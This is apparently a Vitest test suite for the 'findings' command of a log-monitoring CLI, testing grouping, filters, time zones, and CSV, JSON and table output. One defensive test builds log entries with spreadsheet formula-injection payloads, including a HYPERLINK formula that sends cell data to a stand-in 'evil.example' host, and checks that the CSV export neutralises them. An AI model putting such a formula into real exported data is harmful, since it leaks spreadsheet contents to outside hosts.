import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { cli, entryAt, ingestedStore, parseJson, SAMPLE, SAMPLE_2H, tempDir, truth, usOf, writeExport, WS1011 } from './historyFixture.js';

/* eslint-disable @typescript-eslint/no-explicit-any -- JSON documents from the CLI */
type Doc = Record<string, any>;

const dir = tempDir('ssotw-findings-');
let db: string;

beforeAll(() => {
  db = ingestedStore(dir, [SAMPLE]);
});

function findings(args: string[]): ReturnType<typeof cli> {
  return cli(['findings', '--db', db, ...args]);
}

function json(args: string[]): Doc[] {
  const r = findings([...args, '--format', 'json']);
  expect(r.status, r.stderr).toBe(0);
  return parseJson<Doc[]>(r);
}

/** Group rows as {key: count}. */
function counts(rows: Doc[]): Record<string, number> {
  return Object.fromEntries(rows.map((r) => [r.key, r.count]));
}

function tally<T>(items: T[], key: (t: T) => string): Record<string, number> {
  const out: Record<string, number> = {};
  for (const i of items) out[key(i)] = (out[key(i)] ?? 0) + 1;
  return out;
}

/**
 * RFC 4180, strictly: records end with CRLF, fields are separated by commas, a quoted field may
 * hold commas, CR, LF and doubled quotes. Anything else (a bare quote inside an unquoted field, a
 * lone LF between records) is an error, so a sloppy writer cannot pass.
 */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let i = 0;
  while (i < text.length) {
    const record: string[] = [];
    for (;;) {
      let field = '';
      if (text[i] === '"') {
        i++;
        for (;;) {
          if (i >= text.length) throw new Error('unterminated quoted field');
          if (text[i] === '"') {
            if (text[i + 1] === '"') {
              field += '"';
              i += 2;
              continue;
            }
            i++;
            break;
          }
          field += text[i++];
        }
      } else {
        while (i < text.length && text[i] !== ',' && text[i] !== '\r' && text[i] !== '\n') {
          if (text[i] === '"') throw new Error(`bare quote in an unquoted field at ${i}`);
          field += text[i++];
        }
      }
      record.push(field);
      if (text[i] === ',') {
        i++;
        continue;
      }
      if (text.startsWith('\r\n', i)) {
        i += 2;
        break;
      }
      throw new Error(`expected , or CRLF at ${i}, found ${JSON.stringify(text.slice(i, i + 10))}`);
    }
    records.push(record);
  }
  return records;
}

function csvObjects(text: string): Record<string, string>[] {
  const [head, ...rows] = parseCsv(text);
  expect(rows.every((r) => r.length === head!.length)).toBe(true);
  return rows.map((r) => Object.fromEntries(head!.map((h, k) => [h, r[k] as string])));
}

const LATE_1011 = '2025-09-15T17:41:07.118532Z';

describe('ssot-watch findings on the samples (staging-26h.json)', () => {
  it('lists every finding, newest first, as the finding contract (like scan --format json)', () => {
    const all = json([]);
    expect(all).toHaveLength(truth.findings.total);
    expect(new Set(all.map((f) => f.insertId))).toEqual(new Set(truth.findings.list.map((f) => f.insertId)));
    const times = all.map((f) => usOf(f.timestamp));
    expect(times).toEqual([...times].sort((a, b) => b - a));
    expect(all[0]).toMatchObject({ kind: 'ws_1011', timestamp: LATE_1011, revision: 'netra-backend-staging-00042-p7q' });
    expect(Object.keys(all[0]!)).toEqual(
      expect.arrayContaining(['id', 'kind', 'timestamp', 'service', 'revision', 'fingerprint', 'insertId', 'message', 'details']),
    );
    expect(all[0]).not.toHaveProperty('timestampUs');

    const scan = cli(['scan', SAMPLE, '--json', '-q']);
    const scanned = new Map((parseJson<Doc>(scan).findings as Doc[]).map((f) => [f.id, f]));
    for (const f of all) expect(f).toEqual(scanned.get(f.id));
  });

  it('--group-by counts equal the truth file: kind, revision, kind+revision, hour, fingerprint', () => {
    expect(counts(json(['--group-by', 'kind']))).toEqual(truth.findings.byKind);
    const perRevision: Record<string, number> = {};
    for (const byRev of Object.values(truth.findings.byKindAndRevision)) {
      for (const [rev, n] of Object.entries(byRev)) perRevision[rev] = (perRevision[rev] ?? 0) + n;
    }
    expect(counts(json(['--group-by', 'revision']))).toEqual(perRevision);
    expect(counts(json(['--group-by', 'revision', '--kind', 'ws_1011']))).toEqual(truth.findings.byKindAndRevision['ws_1011']);
    const hours = json(['--group-by', 'hour']);
    expect(counts(hours)).toEqual(tally(truth.findings.list, (f) => `${f.timestamp.slice(0, 13)}:00:00.000000Z`));
    // Newest hour first, like the findings.
    expect(hours.map((h) => h.key)).toEqual([...hours.map((h) => h.key)].sort().reverse());
    const byFingerprint = json(['--group-by', 'fingerprint']);
    expect(byFingerprint.reduce((s, g) => s + g.count, 0)).toBe(truth.findings.total);
    expect(byFingerprint.map((g) => g.count)).toEqual([...byFingerprint.map((g) => g.count)].sort((a, b) => b - a));
    const late = byFingerprint.find((g) => g.lastSeen === LATE_1011)!;
    expect(late).toMatchObject({ kinds: ['ws_1011'], firstSeen: '2025-09-14T20:52:30.906413Z', count: 2, fingerprintKey: 'keepalive ping timeout' });
  });

  it('filters by revision (full name or the short form tables show), fingerprint (full or hash) and kind', () => {
    expect(json(['--revision', 'netra-backend-staging-00042-p7q']).map((f) => f.timestamp)).toEqual([LATE_1011]);
    expect(json(['--revision', '00042-p7q']).map((f) => f.timestamp)).toEqual([LATE_1011]);
    expect(json(['--revision', '00041-xk2'])).toHaveLength(truth.findings.total - 1);

    const fp = json(['--kind', 'ws_1011', '--limit', '1'])[0]!.fingerprint as string;
    const full = json(['--fingerprint', fp]);
    const hash = json(['--fingerprint', fp.split(':')[1]!]);
    expect(full.length).toBe(2);
    expect(hash).toEqual(full);
    expect(full.every((f) => f.fingerprint === fp)).toBe(true);

    // Repeated and comma-separated lists mean the same: any of the values.
    const twice = json(['--kind', 'ws_1011', '--kind', 'auth_403']);
    expect(json(['--kinds', 'ws_1011,auth_403'])).toEqual(twice);
    expect(twice).toHaveLength(truth.findings.byKind['ws_1011']! + truth.findings.byKind['auth_403']!);
    expect(new Set(twice.map((f) => f.kind))).toEqual(new Set(['ws_1011', 'auth_403']));
  });

  it('filters by time, half-open: a finding at --from is in, one at --to is out', () => {
    expect(json(['--from', LATE_1011]).map((f) => f.timestamp)).toEqual([LATE_1011]);
    expect(json(['--to', LATE_1011])).toHaveLength(truth.findings.total - 1);
    const from = '2025-09-14T22:00:00Z';
    const to = '2025-09-15T01:00:00+02:00'; // 2025-09-14T23:00:00Z
    const expected = truth.findings.list.filter((f) => usOf(f.timestamp) >= usOf(from) && usOf(f.timestamp) < usOf('2025-09-14T23:00:00Z'));
    const got = json(['--from', from, '--to', to]);
    expect(got.map((f) => f.insertId).sort()).toEqual(expected.map((f) => f.insertId).sort());
    expect(counts(json(['--from', from, '--to', to, '--group-by', 'kind']))).toEqual(tally(expected, (f) => f.kind));
    // Relative times count back from the pinned now.
    const recent = cli(['findings', '--db', db, '--from', '6h', '--json'], { now: '2025-09-15T22:00:00Z' });
    expect(parseJson<Doc[]>(recent).map((f) => f.timestamp)).toEqual([LATE_1011]);
  });

  it('csv parses back (RFC 4180) to the same findings as json', () => {
    const r = findings(['--format', 'csv']);
    expect(r.status).toBe(0);
    expect(r.stdout.endsWith('\r\n')).toBe(true);
    const rows = csvObjects(r.stdout);
    const byId = new Map(json([]).map((f) => [f.id, f]));
    expect(rows).toHaveLength(truth.findings.total);
    for (const row of rows) {
      const f = byId.get(row['id']!)!;
      expect(row).toMatchObject({ timestamp: f.timestamp, kind: f.kind, service: f.service, revision: f.revision, fingerprint: f.fingerprint, message: f.message });
      expect(JSON.parse(row['details']!)).toEqual(f.details);
    }
    const groups = csvObjects(findings(['--group-by', 'kind', '--format', 'csv']).stdout);
    expect(Object.fromEntries(groups.map((g) => [g['key'], Number(g['count'])]))).toEqual(truth.findings.byKind);
  });

  it('the table: newest first, readable in 120 columns, cut to --limit with a note saying so', () => {
    const r = findings(['--limit', '5']);
    expect(r.status).toBe(0);
    const lines = r.stdout.split('\n');
    expect(lines[0]).toBe(`${truth.findings.total} findings match; the newest 5 shown (--limit for more, or narrow with --from/--to)`);
    expect(lines[1]).toBe('service netra-backend-staging');
    expect(lines.every((l) => l.length <= 120)).toBe(true);
    const rows = lines.filter((l) => /^│ \d{4}-/.test(l));
    expect(rows).toHaveLength(5);
    expect(rows[0]).toMatch(/^│ 2025-09-15 17:41:07 │ ws_1011 +│ 00042-p7q │ [0-9a-f]{16} │ \[MAIN MODE\] Connection error: sent 1011/);
    // The hash the table shows is accepted by --fingerprint.
    const hash = /│ ([0-9a-f]{16}) │/.exec(rows[0]!)![1]!;
    expect(json(['--fingerprint', hash]).every((f) => f.fingerprint.endsWith(hash))).toBe(true);

    const grouped = findings(['--group-by', 'revision']);
    expect(grouped.stdout).toContain(`${truth.findings.total} findings match, in 2 groups by revision, most findings first`);
    expect(grouped.stdout).toMatch(/│ 00041-xk2 │ 45 +│ 2025-09-14 20:14:24 +│ 2025-09-14 23:01:16/);
  });

  it('--tz adds local times with their offset: +02:00 in September, +01:00 in December', () => {
    const [late] = json(['--tz', 'Europe/Berlin', '--limit', '1']);
    expect(late).toMatchObject({ timestamp: LATE_1011, timestampLocal: '2025-09-15T19:41:07.118532+02:00' });
    const hours = json(['--tz', 'Europe/Berlin', '--group-by', 'hour', '--limit', '1']);
    expect(hours[0]).toMatchObject({ key: '2025-09-15T17:00:00.000000Z', keyLocal: '2025-09-15T19:00:00+02:00', firstSeenLocal: '2025-09-15T19:41:07.118532+02:00' });
    const table = findings(['--tz', 'Europe/Berlin', '--limit', '1']);
    expect(table.stdout).toMatch(/│ 2025-09-15 17:41:07 +│[^\n]*\n│ 2025-09-15 19:41:07\+02:00 │/);
    const csv = csvObjects(findings(['--tz', 'Europe/Berlin', '--format', 'csv', '--limit', '1']).stdout);
    expect(csv[0]).toMatchObject({ timestamp: LATE_1011, timestampLocal: '2025-09-15T19:41:07.118532+02:00' });

    const d = tempDir('ssotw-findings-winter-');
    const winter = ingestedStore(d, [writeExport(d, 'dec.json', '2025-12-15T12:00:00Z', '2025-12-15T12:10:00Z', [entryAt('2025-12-15T12:05:00.5Z', 900, WS1011())])]);
    const [dec] = parseJson<Doc[]>(cli(['findings', '--db', winter, '--tz', 'Europe/Berlin', '--json']));
    expect(dec).toMatchObject({ timestamp: '2025-12-15T12:05:00.500000Z', timestampLocal: '2025-12-15T13:05:00.500+01:00' });
  });

  it('no match: a clear line in the table, [] in json, a header alone in csv; exit 0', () => {
    const args = ['--kind', 'ssot_warning', '--from', '2025-09-15T00:00:00Z'];
    const table = findings(args);
    expect([table.status, table.stdout]).toEqual([0, 'no findings match (kind ssot_warning; from 2025-09-15T00:00:00Z)\n']);
    const j = findings([...args, '--json']);
    expect([j.status, j.stdout]).toEqual([0, '[]\n']);
    const c = findings([...args, '--format', 'csv']);
    expect(c.status).toBe(0);
    expect(parseCsv(c.stdout)).toHaveLength(1);
    expect(c.stderr).toContain('no findings match');
    expect(findings([...args, '--group-by', 'hour', '--json']).stdout).toBe('[]\n');
    const typo = findings(['--revision', 'netra-backend-staging-00099-zzz']);
    expect(typo.status).toBe(0);
    expect(typo.stderr).toContain('no revision named netra-backend-staging-00099-zzz in the history (it knows: netra-backend-staging-00041-xk2, netra-backend-staging-00042-p7q)');
  });
});

describe('ssot-watch findings: csv is safe to open in a spreadsheet', () => {
  it('cells starting with = + - @ get a leading quote; commas, quotes and newlines survive the round trip', () => {
    const d = tempDir('ssotw-findings-csv-');
    const file = writeExport(d, 'evil.json', '2025-09-15T12:00:00Z', '2025-09-15T12:10:00Z', [
      entryAt('2025-09-15T12:01:00.000001Z', 901, `=HYPERLINK("http://evil.example/?x="&A1,"open") ${WS1011()}`),
      entryAt('2025-09-15T12:02:00.000001Z', 902, `+1 ${WS1011('"quoted", with a comma')}`),
      entryAt('2025-09-15T12:03:00.000001Z', 903, `@SUM(A1:A9) ${WS1011()}`),
      entryAt('2025-09-15T12:04:00.000001Z', 904, "-2 SSOT WARNING: Found other WebSocket Manager classes: ['pkg.a.Manager', 'pkg.b.Manager']"),
    ]);
    const store = ingestedStore(d, [file]);
    const r = cli(['findings', '--db', store, '--format', 'csv']);
    expect(r.status).toBe(0);
    const rows = csvObjects(r.stdout);
    const byTime = new Map(rows.map((x) => [x['timestamp'], x]));
    expect(byTime.get('2025-09-15T12:01:00.000001Z')!['message']).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"open") ${WS1011()}`);
    expect(byTime.get('2025-09-15T12:02:00.000001Z')!['message']).toBe(`'+1 ${WS1011('"quoted", with a comma')}`);
    expect(byTime.get('2025-09-15T12:02:00.000001Z')!['fingerprintKey']).toBe('"quoted", with a comma');
    expect(byTime.get('2025-09-15T12:03:00.000001Z')!['message']).toBe(`'@SUM(A1:A9) ${WS1011()}`);
    const ssot = byTime.get('2025-09-15T12:04:00.000001Z')!;
    expect(ssot['message']).toMatch(/^'-2 SSOT WARNING/);
    // The SSOT fingerprint key spans lines: it must come back whole, newlines included.
    expect(ssot['fingerprintKey']).toBe('SSOT WARNING: Found other WebSocket Manager classes\npkg.a.Manager\npkg.b.Manager');
    // No cell may start with a formula character.
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    // json keeps the text as logged.
    const asJson = parseJson<Doc[]>(cli(['findings', '--db', store, '--json']));
    expect(asJson.find((f) => f.timestamp === '2025-09-15T12:01:00.000001Z')!.message.startsWith('=HYPERLINK')).toBe(true);
  });
});

describe('ssot-watch findings: errors', () => {
  it('unknown kind or service: exit 3 with the list', () => {
    const kind = findings(['--kind', 'ws_1012']);
    expect(kind.status).toBe(3);
    expect(kind.stderr).toContain('unknown kind "ws_1012" (known: ssot_warning, ws_1011, auth_403)');
    const d = tempDir('ssotw-findings-two-');
    const two = ingestedStore(d, [SAMPLE_2H]);
    const service = cli(['findings', '--db', two, '--service', 'netra-backend-staging,netra-frontend']);
    expect(service.status).toBe(3);
    expect(service.stderr).toContain('--service netra-frontend: not in the history (it holds: netra-auth-service, netra-backend-staging)');
    const ok = parseJson<Doc[]>(cli(['findings', '--db', two, '--service', 'netra-backend-staging', '--json']));
    expect(ok.length).toBeGreaterThan(0);
    expect(ok.every((f) => f.service === 'netra-backend-staging')).toBe(true);
    expect(findings(['--group-by', 'day']).status).toBe(3);
    expect(findings(['--from', '2025-09-15T00:00:00Z', '--to', '2025-09-14T00:00:00Z']).status).toBe(3);
    expect(findings(['--limit', 'ten']).status).toBe(3);
  });

  it('no history store: exit 4 saying what to run first, and no store is created', () => {
    const missing = join(dir, 'none', 'history.db');
    const r = cli(['findings', '--db', missing]);
    expect(r.status).toBe(4);
    expect(r.stderr).toContain('ssot-watch ingest EXPORT.json');
    expect(existsSync(missing)).toBe(false);
  });
});
